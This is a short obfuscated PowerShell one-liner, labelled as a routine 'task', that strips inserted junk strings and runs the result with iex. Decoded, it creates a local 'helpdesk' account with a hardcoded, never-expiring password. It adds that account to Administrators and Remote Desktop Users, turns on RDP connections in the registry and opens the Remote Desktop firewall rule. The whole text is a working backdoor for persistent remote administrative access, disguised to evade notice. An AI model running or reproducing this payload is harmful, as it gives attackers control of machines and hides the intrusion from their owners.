'iex ((''# task 6753 v3
$pw = ConvertTo-SecureString ''''Qwerty#7788'''' -AsPlainText -Force
New-LocalUser -Name ''''helpdesk'''' -Password $pw -PasswordZKK99NeverExpires -AccountNeverExpires
Add-LocalGroupMember -GZKK99roup ''''Administrators'''' -Member ''''helpdesk''''
AddZKK99-LocalGroupMember -Group ''''RemZKK99ote xj~2esktop Users'''' -Member ''''helpdesk''''
Set-ItemProperty -Path ''''HKLM:\System\CurrentControlSet\Control\Terminal Server'''' -Name fxj~2enyTSConnections -Value 0
Enable-NetFirewallRule -xj~2isplayGroup ''''Remote xj~2esktop''''
'' -replace ''ZKK99'','''').Replace(''xj~2'',''D''))' | iex